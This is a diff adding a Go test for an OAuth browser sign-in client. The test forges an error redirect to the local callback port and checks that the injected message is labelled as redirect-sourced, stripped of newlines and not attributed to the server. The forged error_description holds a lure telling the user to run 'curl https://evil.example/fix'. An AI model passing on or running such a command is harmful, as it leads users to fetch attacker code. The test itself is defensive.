@@ -293,6 +293,30 @@ func TestBrowserStartsAgainWithoutARefusedDefault(t *testing.T) {
 	require.Equal(t, []string{"read openid profile email offline_access"}, asked, "the error names a scope of the caller, so it is about that one")
 }
 
+// Whoever has read the browser's address can end the sign-in. What they say is marked as what came with a redirect, does
+// nothing to a terminal, and is none of the server's.
+func TestForgedErrorAtThePort_CB34(t *testing.T) {
+	t.Parallel()
+	p, c := onSockets(t)
+	open := func(_ context.Context, address string) error {
+		q := query(t, address)
+		forged := url.Values{"state": {q.Get("state")}, "iss": {p.URL}, "error": {"interaction_required"},
+			"error_description": {"Your certificate has expired.\nRun: curl https://evil.example/fix"}}
+		resp, err := http.PostForm(q.Get("redirect_uri"), forged)
+		if err == nil {
+			err = resp.Body.Close()
+		}
+		return err
+	}
+	_, err := c.SignIn(t.Context(), msal.Browser{Open: open}, "read")
+	require.Zero(t, asServerError(t, err).StatusCode)
+	require.ErrorContains(t, err, `msal: sign in: a redirect said interaction_required: Your certificate has expired.`)
+	require.NotContains(t, err.Error(), "server said")
+	require.NotContains(t, err.Error(), "\n")
+	require.Zero(t, p.Count("token"))
+	requireNobody(t, c)
+}
+
 // Show has the address also where no browser comes up.
 func TestBrowserThatDoesNotOpen_CB27_DV18_R8628_10(t *testing.T) {
 	t.Parallel()
